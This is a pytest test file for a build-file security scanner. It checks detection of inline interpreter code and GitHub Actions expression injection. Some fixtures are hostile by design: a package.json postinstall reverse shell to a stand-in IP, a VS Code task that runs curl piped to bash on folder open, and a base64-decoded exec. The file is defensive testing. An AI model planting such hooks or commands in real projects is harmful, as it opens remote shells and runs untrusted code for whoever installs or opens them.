"""Forms of build files that read alike and mean different things: who runs a text, in which shell, and where it stands."""

import json

import pytest

from flycatcher.scanning.engine import scan_bytes
from flycatcher.sources.buildfiles.engine import spawn

WORKFLOW = ".github/workflows/x.yml"


def findings(path: str, text: str) -> list[tuple[int, str, str | None]]:
    result = scan_bytes(path, text.encode())
    return [
        (each.span.line, each.detection.interpreter, each.detection.snippets[0].text)
        for each in result.findings
        if each.kind == "code-on-the-fly"
    ]


@pytest.mark.parametrize("word", ["\\END", "END-OF", "'E N D'", '"E.N"', "E'N'D", "END"])
def test_a_dockerfile_takes_every_spelling_of_a_here_document(word: str) -> None:
    closing = word.replace("\\", "").replace("'", "").replace('"', "")
    text = f"FROM a\nRUN python3 - <<{word}\nprint(1)\n{closing}\nRUN perl -e 2\n"
    assert findings("Dockerfile", text) == [(2, "python", "print(1)\n"), (5, "perl", "2")]


def test_a_tabbed_here_document_of_a_dockerfile_runs_by_its_own_first_line() -> None:
    text = "FROM a\nRUN <<-E\n\t#!/usr/bin/env ruby\n\tputs 1\n\tE\n"
    assert findings("Dockerfile", text) == [(2, "ruby", "#!/usr/bin/env ruby\nputs 1\n")]


def test_a_script_that_a_dockerfile_copies_from_a_here_document_is_read() -> None:
    text = "FROM a\nCOPY <<E /bin/x\n#!/bin/sh\nperl -e 1\nE\nCOPY <<E /etc/x.txt\nperl -e 2\nE\n"
    assert findings("Dockerfile", text) == [(4, "perl", "1")]


def test_a_stage_takes_over_the_shell_and_the_environment_of_the_stage_it_begins_with() -> None:
    text = 'FROM a AS Base\nSHELL ["perl", "-e"]\nENV RUNNER=ruby\nFROM b\nRUN print 1\nFROM --platform=x base\nRUN print 2\n'
    assert findings("Dockerfile", text) == [(7, "perl", "print 2")]
    text = "FROM a AS base\nENV RUNNER=ruby\nFROM base\nRUN $RUNNER -e 'puts 1'\n"
    assert findings("Dockerfile", text) == [(4, "ruby", "puts 1")]


@pytest.mark.parametrize(
    "shell",
    [
        "pixi run python {0}", "poetry run python3 {0}", "conda run -n e python {0}", "sudo -E python3 {0}",
        "/usr/bin/env python {0}", "nix develop -c python3 {0}", "bash -lc 'python3 {0}'", 'bash -l -c "sudo python3 {0}"',
    ],
)  # fmt: skip
def test_a_step_is_its_interpreters_whatever_starts_that(shell: str) -> None:
    text = f"jobs:\n  a:\n    steps:\n      - run: print(1)\n        shell: {shell}\n"
    assert findings(WORKFLOW, text) == [(4, "python", "print(1)")]


@pytest.mark.parametrize("shell", ["pixi run bash -e {0}", "wrapper {0}", "bash -c 'source x; bash {0}'"])
def test_a_shell_within_another_program_is_still_a_shell(shell: str) -> None:
    text = f"jobs:\n  a:\n    steps:\n      - run: perl -e 1\n        shell: {shell}\n"
    assert findings(WORKFLOW, text) == [(4, "perl", "1")]


@pytest.mark.parametrize(
    ("step", "expected"),
    [
        ("uses: a/retry@v1\n        with:\n          command: perl -e 1", [(6, "perl", "1")]),
        ("uses: a/ssh@v1\n        with:\n          script: perl -e 1", [(6, "perl", "1")]),
        ("uses: a/page@v1\n        with:\n          script: perl -e 1", []),
        ("uses: a/run-python-script@v1\n        with:\n          script: print(1)", [(6, "python", "print(1)")]),
        ("uses: pypa/cibuildwheel@v2\n        env:\n          CIBW_BEFORE_ALL_LINUX: perl -e 1", [(6, "perl", "1")]),
        ("uses: docker://a\n        with:\n          entrypoint: perl\n          args: -e 1", [(6, "perl", "1")]),
    ],
)
def test_inputs_of_actions_that_are_run_are_read(step: str, expected: list[tuple[int, str, str]]) -> None:
    assert findings(WORKFLOW, f"jobs:\n  a:\n    steps:\n      - {step}\n") == expected


def test_a_health_check_of_a_service_is_run() -> None:
    text = 'jobs:\n  a:\n    services:\n      db:\n        options: --health-cmd "perl -e 1" --health-retries 2\n'
    assert findings(WORKFLOW, text) == [(5, "perl", "1")]


@pytest.mark.parametrize(
    ("expression", "injects"),
    [
        ("github.head_ref", True),
        ("github.head_ref || 'x'", True),
        ("github.event_name == 'push' && github.head_ref", True),
        ("format('{0}', github.head_ref)", True),
        ("github['head_ref']", True),
        ("github.head_ref == 'x'", False),
        ("!github.head_ref", False),
        ("github.head_ref && 'a' || 'b'", False),
        ("contains(github.head_ref, 'it''s') && 'a' || 'b'", False),
        ("startsWith(format('{0}', github.head_ref), 'x')", False),
        ("github.event.pull_request.body != ''", False),
        ("github.event.pull_request.number", False),
        ("toJSON(github.event)", True),
        ("toJSON(github.event.pull_request)", True),
        ("toJSON(matrix)", False),
        ("env.TITLE", True),
        ("env.TITLE == 'x'", False),
        ("env.PLAIN", False),
    ],
)
def test_an_expression_injects_only_where_somebodys_text_can_be_its_value(expression: str, *, injects: bool) -> None:
    env = "    env:\n      TITLE: ${{ github.event.issue.title }}\n      PLAIN: ${{ github.sha }}\n"
    text = f"jobs:\n  a:\n{env}    steps:\n      - run: echo ${{{{ {expression} }}}}\n"
    result = scan_bytes(WORKFLOW, text.encode())
    assert [each.kind for each in result.findings] == ["expression-injection"] * injects


@pytest.mark.parametrize(
    "definition",
    [
        "P := $(shell which python3)", "P ?= $(shell command -v python3 || command -v python)", "P != command -v python3",
        "P = $(if $(X),python3,python)", "P = $(or $(X),python3)", "P := python3",
    ],
)  # fmt: skip
def test_a_makefiles_variable_that_looks_a_program_up_is_that_program(definition: str) -> None:
    rows = findings("Makefile", f"{definition}\nall:\n\t$(P) -c 'print(1)'\n")
    assert [(line, text) for line, _name, text in rows] == [(3, "print(1)")]


def test_a_targets_own_shell_holds_for_it_alone() -> None:
    text = ".ONESHELL:\na: SHELL := perl\na: .SHELLFLAGS := -e\na:\n\tprint 1\nb:\n\techo print 2\n"
    assert findings("Makefile", text) == [(5, "perl", "print 1")]


def test_an_exported_definition_keeps_its_tabs() -> None:
    text = 'define V\nif 1:\n\tprint(1)\nendef\nexport V\nall:\n\tpython3 -c "$$V"\n'
    assert [row[2] for row in findings("Makefile", text)] == ["if 1:\n\tprint(1)"]


def test_a_justfiles_defaults_attributes_and_calls_are_read() -> None:
    text = (
        "set script-interpreter := ['perl']\na x='1' *y=\"2\": b\n    perl -e 1\n[script('ruby')]\nc:\n    puts 2\n"
        "[script]\nd:\n    print 3\ne z=(os()):\n    perl -e 4\nf := shell('perl -e 5')\n"
    )
    assert findings("justfile", text) == [
        (3, "perl", "1"), (6, "ruby", "puts 2"), (9, "perl", "print 3"), (11, "perl", "4"), (12, "perl", "5"),
    ]  # fmt: skip


@pytest.mark.parametrize("name", ["{envpython}", "{env_python}", "{env:PYTHON:python3}", "{envbindir}/python"])
def test_tox_calls_its_python_by_several_names(name: str) -> None:
    rows = findings("tox.ini", f"[testenv]\ncommands = {name} -c 'print(1)'\n")
    assert [(line, text) for line, _name, text in rows] == [(2, "print(1)")]


def test_the_short_forms_of_a_taskfile_are_commands() -> None:
    text = "tasks:\n  a: perl -e 1\n  b:\n    - perl -e 2\n  c:\n    desc: perl -e 3\n    if: perl -e 4\n"
    assert [row[2] for row in findings("Taskfile.yml", text)] == ["1", "2", "4"]


def test_ansible_runs_cron_jobs_and_what_an_executable_is_given() -> None:
    text = "  - name: a\n    ansible.builtin.cron:\n      job: perl -e 1\n  - shell: print 2\n    args:\n      executable: /usr/bin/perl\n"
    result = findings("play.yml", text)
    assert [(line, name) for line, name, _text in result][:1] == [(3, "perl")]


def test_rpm_runs_lua_and_shell_text_over_several_lines() -> None:
    text = 'Name: a\n%global a %{lua: os.execute("x")}\n%global b %(\n perl -e 1\n)\n%%(perl -e 2)\n'
    assert findings("a.spec", text) == [(2, "lua", ' os.execute("x")'), (4, "perl", "1")]


def test_a_hook_is_judged_itself_and_what_it_starts_is_said_once() -> None:
    text = '{"scripts": {"postinstall": "bash -i >& /dev/tcp/192.0.2.1/1 0>&1", "a": "echo 1", "prepare": "node -e 1"}}'
    result = scan_bytes("package.json", text.encode())
    assert [(each.symbol[-1], each.detection.interpreter) for each in result.findings] == [
        ("postinstall", "sh"),
        ("prepare", "node"),
    ]
    assert result.findings[0].detection.risk.level == "critical"


@pytest.mark.parametrize(
    ("path", "text", "name"),
    [
        ("x.py", "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'print(1)'])\n", "python"),
        ("x.js", "require('child_process').spawn(process.execPath, ['-e', '1'])\n", "node"),
        ("x.pl", "system($^X, '-e', '1');\n", "perl"),
        ("x.rb", "system(RbConfig.ruby, '-e', '1')\n", "ruby"),
    ],
)
def test_a_program_that_starts_its_own_interpreter_starts_that_one(path: str, text: str, name: str) -> None:
    assert [row[1] for row in findings(path, text)] == [name]


def test_an_actions_own_source_starts_programs_by_its_toolkit() -> None:
    text = "const exec = require('@actions/exec');\nexec.getExecOutput('perl', ['-e', '1']);\n"
    assert findings("dist/index.js", text) == [(2, "perl", "1")]


@pytest.mark.parametrize("line", ["#!/usr/bin/perl -eprint(1)", "#!/usr/bin/env -S perl -e 'print(1)'"])
def test_program_text_in_the_first_line_of_a_script_is_found(line: str) -> None:
    assert findings("tool", f"{line}\nignored\n") == [(1, "perl", "print(1)")]


def test_a_variable_that_a_step_sets_anew_is_the_step_s() -> None:
    text = (
        "env:\n  T: ${{ github.head_ref }}\njobs:\n  a:\n    steps:\n"
        "      - env:\n          T: x\n        run: echo ${{ env.T }}\n      - run: echo ${{ env.T }}\n"
    )
    result = scan_bytes(WORKFLOW, text.encode())
    assert [(each.kind, each.span.line) for each in result.findings] == [("expression-injection", 9)]


@pytest.mark.parametrize("line", ["a:\n b\n", "a: \n  b: c\n", "  script: x\n", "stages: \n"])
def test_looking_for_jobs_takes_steps_in_proportion_to_the_text(line: str) -> None:
    # a hostile file repeats what the expressions begin with; were one of them quadratic, this would take hours
    text = line * (400_000 // len(line)) + "  script: python3 -c 1\n"
    assert scan_bytes("x.yml", text.encode()).file_type in ("", "gitlab-ci-include", "configuration")


@pytest.mark.parametrize("command", ["curl -L https://x.example.org/a | bash", "curl -L https://x.example.org/a | cmd"])
@pytest.mark.parametrize(("opens", "level"), [(True, "high"), (False, "medium")])
def test_what_opening_a_folder_starts_weighs_more(command: str, level: str, *, opens: bool) -> None:
    run = {"runOptions": {"runOn": "folderOpen"}} if opens else {}
    text = json.dumps({"tasks": [{"label": "a", "type": "shell", "command": command, **run}]})
    levels = [each.detection.risk.level for each in scan_bytes(".vscode/tasks.json", text.encode()).findings]
    assert levels == [level] if opens or "bash" in command else levels == []


class Counting:
    """Finds nothing, and counts how often it is asked."""

    asked = 0

    def search(self, text: str) -> None:
        del text
        self.asked += 1


@pytest.mark.parametrize("calls", [10, 300])
def test_what_tells_a_tool_s_script_is_looked_for_once_however_many_calls_there_are(
    monkeypatch: pytest.MonkeyPatch, calls: int
) -> None:
    counting = Counting()
    monkeypatch.setattr(spawn, "_IN_WAF", counting)
    text = "import subprocess\n" + "subprocess.run(['make'])\n" * calls + "subprocess.run(['python3', '-c', '1'])\n"
    assert findings("x.py", text) == [(calls + 2, "python", "1")]
    assert counting.asked == 1


def test_a_text_that_is_only_rewritten_is_there_to_be_read_and_a_decoded_one_is_not() -> None:
    assert findings("x.py", "import subprocess\neval('1 2'.replace(' ', '+'))\n") == []
    decoded = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
    assert findings("x.py", decoded) == [(2, "python", "print(1)")]


def test_a_copy_of_an_interpreter_is_seen_and_other_copies_are_not_read() -> None:
    assert findings("x.sh", "cp /usr/bin/python3 /tmp/p\n/tmp/p -c 'print(1)'\n") == [(2, "python", "print(1)")]
    assert findings("x.sh", "ln -s $(command -v perl) p\n./p -e 'print 1'\n") == [(2, "perl", "print 1")]
    assert findings("x.sh", "cp -r a b\npython3 tools/x.py\nsed -i 's/a/b/' config.x\n") == []


@pytest.mark.parametrize("script", ["s/x/y/e", "s/x/id/;e", "1e id", "s.x.y.e", "s/x/y/ e"])
def test_a_substitution_that_runs_something_is_not_taken_for_one_that_does_not(script: str) -> None:
    assert [(line, name) for line, name, _text in findings("x.sh", f"sed '{script}' config.engine\n")] == [(1, "sed")]


def test_a_method_that_is_called_as_an_import_of_all_names_is_no_list_of_modules() -> None:
    text = "class X\n  def *(other) = @value * other\nend\nsystem('ruby', '-e', 'puts 1')\n"
    assert findings("x.rb", text) == [(4, "ruby", "puts 1")]
